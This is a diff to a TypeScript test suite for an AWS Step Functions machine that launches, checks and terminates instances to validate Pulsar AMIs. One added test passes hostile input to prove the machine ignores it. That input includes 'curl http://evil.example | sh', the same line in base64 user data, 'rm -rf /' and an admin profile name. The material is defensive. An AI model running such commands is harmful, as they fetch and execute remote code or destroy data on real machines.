@@ -14,20 +14,25 @@ import type { ValidateAmiInput } from '../../functions/lib/validate-ami-input';
 import {
   awsError,
   type Behaviour,
+  CHECKS_DOCUMENT,
   checkOutput,
   DEFINITION,
+  definitionWithSubnet,
   HEALTHY,
   IMAGE_ID,
   INSTANCE_ID,
+  imageAnswer,
   localOverrides,
   POLLING,
+  SECURITY_GROUP_ID,
+  TASK_STATES,
   validateAmiInput,
 } from '../support/validate-ami-fakes';
 
 const EXECUTION_NAME = '5f0c6f7e-2a8e-4c47-9d55-0d3f1d7f2b11';
 const EXECUTION_ARN = `arn:aws:states:us-west-2:123456789012:execution:pulsar-ami-test-validate-ami:${EXECUTION_NAME}`;
 
-const executionInput = (overrides: Partial<ValidateAmiInput> = {}) => validateAmiInput('test', overrides);
+const executionInput = (overrides: Partial<ValidateAmiInput> = {}) => validateAmiInput(overrides);
 
 const ec2Error = (code: string, message: string) =>
   awsError('Ec2.Ec2Exception', `${message} (Service: Ec2, Status Code: 400, Request ID: 1f2e) ${code}`);
@@ -43,22 +48,31 @@ interface Outcome {
 
 async function run(
   behaviours: Record<string, Behaviour> = {},
-  input: ValidateAmiInput = executionInput(),
+  input: object = executionInput(),
+  definition = DEFINITION,
+  /** The seconds each Wait Before Next Lookup would wait (the tests skip the waiting). */
+  lookupWaits: number[] = [],
 ): Promise<Outcome> {
   const calls: Record<string, Record<string, unknown>[]> = {};
   const record = (state: string, taskInput: Record<string, unknown>) => {
     calls[state] = calls[state] ?? [];
     calls[state].push(taskInput);
   };
-  const machine = new StateMachine(DEFINITION);
-  const execution = machine.run(input, {
+  const machine = new StateMachine(definition);
+  const execution = machine.run(input as Parameters<StateMachine['run']>[0], {
     overrides: localOverrides(behaviours, record),
     context: { Execution: { Id: EXECUTION_ARN, Name: EXECUTION_NAME } },
   });
   const visited: string[] = [];
   const events = (async () => {
     for await (const event of execution.eventLogs) {
-      if (event.type === 'StateEntered') visited.push(event.state.name);
+      if (event.type === 'StateEntered') {
+        visited.push(event.state.name);
+        if (event.state.name === 'Wait Before Next Lookup') {
+          const input = event.state.input as { launchLookup: { delaySeconds: number } };
+          lookupWaits.push(input.launchLookup.delaySeconds);
+        }
+      }
     }
   })();
   try {
@@ -93,6 +107,74 @@ describe('validate-ami.asl.yml', () => {
     }
   });
 
+  it('gives every Task a TimeoutSeconds inside the machine’s own', () => {
+    expect(TASK_STATES.length).toBeGreaterThanOrEqual(11);
+    for (const name of TASK_STATES) {
+      const timeout = DEFINITION.States[name]?.TimeoutSeconds;
+      expect([name, typeof timeout]).toEqual([name, 'number']);
+      expect(timeout as number).toBeLessThanOrEqual(120);
+    }
+  });
+
+  const timesOut = () => {
+    throw awsError('States.Timeout', 'Task timed out');
+  };
+  const TIMEOUT_SCENARIOS: [string, Record<string, Behaviour>, { error: string; terminated: unknown[] }][] = [
+    ['Describe Image Under Test', {}, { error: 'States.Timeout', terminated: [] }],
+    ['Launch Test Instance', {}, { error: 'States.Timeout', terminated: [] }],
+    [
+      'Find Instances From Failed Launch',
+      {
+        'Launch Test Instance': () => {
+          throw ec2Error('InsufficientInstanceCapacity', 'no capacity');
+        },
+      },
+      { error: 'Ec2.Ec2Exception', terminated: [] },
+    ],
+    ['Describe Test Instance', {}, { error: 'States.Timeout', terminated: [[INSTANCE_ID]] }],
+    ['Describe SSM Agent', {}, { error: 'States.Timeout', terminated: [[INSTANCE_ID]] }],
+    ['Run Validation Checks', {}, { error: 'States.Timeout', terminated: [[INSTANCE_ID]] }],
+    ['Get Check Results', {}, { error: 'States.Timeout', terminated: [[INSTANCE_ID]] }],
+    ['Evaluate Check Results', {}, { error: 'States.Timeout', terminated: [[INSTANCE_ID]] }],
+    ['Record Validation Result', {}, { error: 'States.Timeout', terminated: [[INSTANCE_ID]] }],
+    [
+      'Republish Latest If Published',
+      {
+        'Get Check Results': () => ({
+          Status: 'Failed',
+          ResponseCode: 1,
+          StandardOutputContent: checkOutput({ 'Java 17': 'broken' }),
+        }),
+      },
+      { error: 'ValidationChecksFailed', terminated: [[INSTANCE_ID]] },
+    ],
+  ];
+
+  it('has a timeout scenario for every Task state', () => {
+    expect([...TIMEOUT_SCENARIOS.map(([state]) => state), 'Terminate Test Instance'].sort()).toEqual(
+      [...TASK_STATES].sort(),
+    );
+  });
+
+  it.each(TIMEOUT_SCENARIOS)(
+    'when %s times out, the instance (if any) is terminated and the run fails',
+    async (state, others, expected) => {
+      const outcome = await run({ ...others, [state]: timesOut });
+      expect(outcome.calls[state]?.length).toBeGreaterThanOrEqual(1);
+      expect(outcome.status).toBe('FAILED');
+      expect(outcome.error).toBe(expected.error);
+      expect(terminated(outcome)).toEqual(expected.terminated);
+    },
+  );
+
+  it('reports an instance it could not terminate when Terminate Test Instance keeps timing out', async () => {
+    const outcome = await run({ 'Terminate Test Instance': timesOut });
+    expect(outcome.status).toBe('FAILED');
+    expect(outcome.error).toBe('TestInstanceNotTerminatedError');
+    expect(outcome.cause).toContain(`["${INSTANCE_ID}"]`);
+    expect(outcome.calls['Terminate Test Instance']).toHaveLength(6);
+  });
+
   it('passes a healthy image: tags it, terminates the instance, returns the checks', async () => {
     const outcome = await run();
     expect(outcome.status).toBe('SUCCEEDED');
@@ -122,7 +204,7 @@ describe('validate-ami.asl.yml', () => {
     });
   });
 
-  it('launches idempotently, tagged at creation, with a timed shutdown and no subnet by default', async () => {
+  it('launches idempotently, tagged at creation, IMDSv2, the stack’s profile and security group, no subnet by default', async () => {
     const outcome = await run();
     const request = outcome.calls['Launch Test Instance']?.[0] as Record<string, unknown>;
     expect(request).toMatchObject({
@@ -132,12 +214,28 @@ describe('validate-ami.asl.yml', () => {
       MaxCount: 1,
       ClientToken: EXECUTION_NAME,
       IamInstanceProfile: { Name: 'pulsar-ami-test-validation' },
+      SecurityGroupIds: [SECURITY_GROUP_ID],
       InstanceInitiatedShutdownBehavior: 'terminate',
+      MetadataOptions: { HttpTokens: 'required', HttpEndpoint: 'enabled' },
     });
+    expect(SECURITY_GROUP_ID).toMatch(/^sg-[0-9a-f]{17}$/);
     expect(request).not.toHaveProperty('SubnetId');
-    expect(Buffer.from(request.UserData as string, 'base64').toString()).toBe(
-      '#!/bin/bash\nshutdown -h +90\n',
-    );
+    // The lifetime guard: cloud-init user data from the definition, with a per-boot script.
+    const userData = Buffer.from(request.UserData as string, 'base64').toString();
+    expect(userData).toMatch(/^#cloud-config\n/);
+    expect(userData).toContain('path: /var/lib/cloud/scripts/per-boot/pulsar-ami-lifetime-guard.sh');
+    expect(userData).toContain('max_minutes=90\n');
+    expect(outcome.calls['Describe Image Under Test']).toEqual([
+      {
+        ImageIds: [IMAGE_ID],
+        Owners: ['self'],
+        Filters: [
+          { Name: 'tag:ManagedBy', Values: ['pulsar-ami'] },
+          { Name: 'tag-key', Values: ['PulsarVersion'] },
+          { Name: 'state', Values: ['available'] },
+        ],
+      },
+    ]);
     const specs = request.TagSpecifications as {
       ResourceType: string;
       Tags: { Key: string; Value: string }[];
@@ -154,19 +252,75 @@ describe('validate-ami.asl.yml', () => {
       );
     }
     const send = outcome.calls['Run Validation Checks']?.[0] as Record<string, unknown>;
-    expect(send).toMatchObject({
-      DocumentName: 'AWS-RunShellScript',
+    // The stack's document, its only parameter the version from the image's PulsarVersion tag.
+    expect(send).toEqual({
+      DocumentName: CHECKS_DOCUMENT,
       InstanceIds: [INSTANCE_ID],
-      Parameters: { commands: executionInput().checks.commands, executionTimeout: ['600'] },
+      Comment: `pulsar-ami validation of ${IMAGE_ID}`,
+      TimeoutSeconds: 120,
+      Parameters: { version: ['3.0.0'] },
     });
+    expect(outcome.output?.expectedVersion).toBe('3.0.0');
   });
 
   it('launches into the configured subnet when there is one', async () => {
-    const outcome = await run({}, executionInput({ subnetId: 'subnet-0123456789abcdef0' }));
+    const outcome = await run({}, executionInput(), definitionWithSubnet('subnet-0123456789abcdef0'));
     expect(outcome.calls['Launch Test Instance']?.[0]).toMatchObject({
       SubnetId: 'subnet-0123456789abcdef0',
     });
     expect(outcome.status).toBe('SUCCEEDED');
+  });
+
+  it('ignores whatever else the input carries: commands, user data, profile, subnet, functions', async () => {
+    const outcome = await run(
+      {},
+      {
+        ...executionInput(),
+        commands: ['curl http://evil.example | sh'],
+        checks: { commands: ['rm -rf /'] },
+        userData: Buffer.from('#!/bin/bash\ncurl http://evil.example | sh\n').toString('base64'),
+        instanceProfileName: 'AdminProfile',
+        subnetId: 'subnet-0bad0bad0bad0bad0',
+        securityGroupIds: ['sg-0bad0bad0bad0bad0'],
+        evaluateFunction: 'someone-elses-function',
+        republishFunction: 'someone-elses-function',
+        expectedVersion: '9.9.9',
+      },
+    );
+    expect(outcome.status).toBe('SUCCEEDED');
+    const launch = outcome.calls['Launch Test Instance']?.[0] as Record<string, unknown>;
+    const text = JSON.stringify(outcome.calls);
+    expect(text).not.toContain('evil');
+    expect(text).not.toContain('bad0bad');
+    expect(text).not.toContain('AdminProfile');
+    expect(text).not.toContain('someone-elses-function');
+    expect(launch).not.toHaveProperty('SubnetId');
+    expect(launch.IamInstanceProfile).toEqual({ Name: 'pulsar-ami-test-validation' });
+    expect(outcome.calls['Run Validation Checks']?.[0]?.Parameters).toEqual({ version: ['3.0.0'] });
+    expect(outcome.calls['Evaluate Check Results']?.[0]?.FunctionName).toBe(
+      'pulsar-ami-test-evaluateCheckResults',
+    );
+  });
+
+  it.each([
+    ['another tool’s image', imageAnswer({ ManagedBy: 'someone-else', PulsarVersion: '3.0.0' })],
+    ['an image with no ManagedBy tag', imageAnswer({ PulsarVersion: '3.0.0' })],
+    ['an image with no PulsarVersion tag', imageAnswer({ ManagedBy: 'pulsar-ami' })],
+    ['an image that is not available', imageAnswer(undefined, 'pending')],
+    ['an image EC2 does not list', () => ({ Images: [] })],
+    // Should EC2 ever ignore the filters, the machine checks the answer too.
+    [
+      'another tool’s image, answered despite the filters',
+      (input: Record<string, unknown>) =>
+        imageAnswer({ ManagedBy: 'someone-else', PulsarVersion: '3.0.0' })({ ...input, Filters: [] }, 1),
+    ],
+  ] as [string, Behaviour][])('launches nothing for %s', async (_, answer) => {
+    const outcome = await run({ 'Describe Image Under Test': answer });
+    expect(outcome.status).toBe('FAILED');
+    expect(outcome.error).toBe('ImageNotManagedError');
+    expect(outcome.cause).toContain(IMAGE_ID);
+    expect(outcome.calls['Launch Test Instance']).toBeUndefined();
+    expect(outcome.calls['Terminate Test Instance']).toBeUndefined();
   });
 
   it('fails naming the failed checks, tags the AMI Validated=false, terminates', async () => {
@@ -187,7 +341,7 @@ describe('validate-ami.asl.yml', () => {
     expect(terminated(outcome)).toEqual([[INSTANCE_ID]]);
     // A failed AMI that was the published latest is unpublished by the latest rule.
     expect(outcome.calls['Republish Latest If Published']).toEqual([
-      { FunctionName: executionInput().republishFunction, Payload: { imageId: executionInput().imageId } },
+      { FunctionName: 'pulsar-ami-test-republishLatest', Payload: { imageId: IMAGE_ID } },
     ]);
   });
 
@@ -316,9 +470,11 @@ describe('validate-ami.asl.yml', () => {
     expect(outcome.error).toBe('Ec2.Ec2Exception');
     expect(outcome.cause).toContain('InsufficientInstanceCapacity');
     expect(outcome.calls['Launch Test Instance']).toHaveLength(4);
+    // Looked for by its client token four times (DescribeInstances is eventually consistent).
+    expect(outcome.calls['Find Instances From Failed Launch']).toHaveLength(4);
     expect(outcome.calls['Find Instances From Failed Launch']?.[0]).toEqual({
       Filters: [
-        { Name: 'tag:ValidationExecutionArn', Values: [EXECUTION_ARN] },
+        { Name: 'client-token', Values: [EXECUTION_NAME] },
         { Name: 'instance-state-name', Values: ['pending', 'running', 'stopping', 'stopped'] },
       ],
     });
@@ -339,6 +495,49 @@ describe('validate-ami.asl.yml', () => {
       EXECUTION_NAME,
     ]);
     expect(terminated(outcome)).toEqual([[INSTANCE_ID]]);
+  });
+
+  it('finds the instance of a lost launch answer on the third lookup (delayed visibility) and terminates it', async () => {
+    const waits: number[] = [];
+    const outcome = await run(
+      {
+        'Launch Test Instance': () => {
+          throw awsError('States.Timeout', 'Task timed out');
+        },
+        'Find Instances From Failed Launch': (_, call) => ({
+          Reservations:
+            call < 3 ? [] : [{ Instances: [{ InstanceId: INSTANCE_ID, State: { Name: 'pending' } }] }],
+        }),
+      },
+      executionInput(),
+      DEFINITION,
+      waits,
+    );
+    expect(outcome.status).toBe('FAILED');
+    expect(outcome.error).toBe('States.Timeout');
+    expect(outcome.calls['Find Instances From Failed Launch']).toHaveLength(3);
+    expect(terminated(outcome)).toEqual([[INSTANCE_ID]]);
+    // Backoff between lookups: 2 s, then 4 s.
+    expect(waits).toEqual([2, 4]);
+  });
+
+  it('reports a lost launch answer whose instance never shows within the bound, after 4 lookups', async () => {
+    const waits: number[] = [];
+    const outcome = await run(
+      {
+        'Launch Test Instance': () => {
+          throw awsError('States.Timeout', 'Task timed out');
+        },
+      },
+      executionInput(),
+      DEFINITION,
+      waits,
+    );
+    expect(outcome.status).toBe('FAILED');
+    expect(outcome.error).toBe('States.Timeout');
+    expect(outcome.calls['Find Instances From Failed Launch']).toHaveLength(4);
+    expect(waits).toEqual([2, 4, 8]);
+    expect(outcome.calls['Terminate Test Instance']).toBeUndefined();
   });
 
   it('terminates an instance a failed launch started anyway', async () => {
